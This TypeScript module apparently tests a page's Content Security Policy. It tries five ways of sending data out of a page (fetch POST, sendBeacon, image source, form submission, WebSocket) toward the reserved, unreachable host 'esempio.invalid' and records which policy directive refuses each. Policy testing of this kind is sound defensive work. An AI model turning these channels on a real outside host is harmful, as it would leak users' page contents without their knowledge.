/** What a page could try to send a document away with. */
const exfiltrations = ['fetch', 'beacon', 'image', 'form', 'socket'] as const;
export type Exfiltration = (typeof exfiltrations)[number];

/** The directive of the policy that refused it; undefined where nothing did. */
export type ExfiltrationResult = { attempt: Exfiltration; directive: string | undefined };

/** No such host can exist (RFC 2606): what is not refused reaches nobody either. */
const host = 'esempio.invalid';
const target = `https://${host}/`;
/** Browsers report a refusal at once; without a report for so long there is none, in milliseconds. */
const REPORT_MS = 2000;

const attempts: Record<Exfiltration, () => unknown> = {
  fetch: () => fetch(target, { method: 'POST', body: 'prova', mode: 'no-cors' }).catch(() => {}),
  beacon: () => navigator.sendBeacon(target, 'prova'),
  image: () => {
    new Image().src = `${target}?prova`;
  },
  form: () => {
    const form = document.createElement('form');
    form.action = target;
    form.target = '_blank';
    document.body.append(form);
    form.submit();
    form.remove();
  },
  socket: () => new WebSocket(target.replace('https', 'wss')),
};

/**
 * Tries one way after the other, and notes what the browser reports of it.
 * @param note receives each result. Where the first attempt is not refused the page has no such policy: the others,
 * which could leave the page, are not made then.
 */
export async function attemptExfiltration(note: (result: ExfiltrationResult) => void): Promise<void> {
  for (const attempt of exfiltrations) {
    const directive = await refusalOf(attempts[attempt]);
    note({ attempt, directive });
    if (directive === undefined) return;
  }
}

function refusalOf(attempt: () => unknown): Promise<string | undefined> {
  return new Promise((resolve) => {
    const end = (directive: string | undefined) => {
      document.removeEventListener('securitypolicyviolation', onViolation);
      clearTimeout(timer);
      resolve(directive);
    };
    const onViolation = ({ blockedURI, effectiveDirective }: SecurityPolicyViolationEvent) => {
      // Not that of an extension.
      if (blockedURI.includes(host)) end(effectiveDirective);
    };
    const timer = setTimeout(() => end(undefined), REPORT_MS);
    document.addEventListener('securitypolicyviolation', onViolation);
    try {
      attempt();
    } catch {
      // Some browsers throw besides, before or after their report.
    }
  });
}
